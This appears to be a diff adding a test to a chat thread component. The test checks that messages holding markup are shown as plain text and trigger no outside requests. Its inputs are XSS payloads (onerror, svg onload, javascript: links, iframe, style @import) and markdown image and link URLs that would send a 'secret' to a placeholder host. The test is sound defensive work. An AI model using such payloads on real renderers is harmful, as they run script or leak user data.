@@ -41,6 +41,27 @@ describe('Thread', () => {
     expect(log().textContent).toMatch(/Mira said: waves Hello.*You said: Hi/)
     expect(within(log()).getByText('waves').tagName).toBe('EM')
   })
+  it('draws pictures, links and markup that somebody has written as their letters, and asks nobody for anything', () => {
+    const requests = stubFetch(() => ({}))
+    const written = [
+      '![seen](https://elsewhere.example/x.png?q=secret) and [here](https://elsewhere.example/?q=secret)',
+      '<img src="https://elsewhere.example/x.png" onerror="alert(1)"> <iframe src="//elsewhere.example"></iframe>',
+      '> ![a](//elsewhere.example/a)\n- <a href="javascript:alert(1)">b</a>\n- <style>@import "//elsewhere.example"</style>',
+      '*<svg onload=alert(1)>* **<link rel=preload href=//elsewhere.example>** https://elsewhere.example/plain',
+    ]
+    draw(
+      thread,
+      written.map((content, at) => message(2 + at, { content })),
+    )
+    for (const text of ['![seen](https://elsewhere.example/x.png?q=secret)', '<img src=', '<a href="javascript:', '<svg onload=', '/plain'])
+      expect(log().textContent).toContain(text)
+    const drawn = [...log().querySelectorAll('*')].flatMap((element) =>
+      ['src', 'srcset', 'href', 'style', 'poster', 'data'].map((name) => element.getAttribute(name) ?? ''),
+    )
+    expect(drawn.filter((value) => /elsewhere|javascript/.test(value))).toEqual([])
+    expect(log().querySelector('iframe, style, link, object, embed, svg[onload]')).toBeNull()
+    expect(requests.filter(({ url }) => url.includes('elsewhere'))).toEqual([])
+  })
   it('says above the composer that the account is on hold, and where to say otherwise', () => {
     useAuthStore.getState().signIn(person({}, { age_hold: true }) as User)
     draw(thread, [message(2, { content: 'Hello' })])
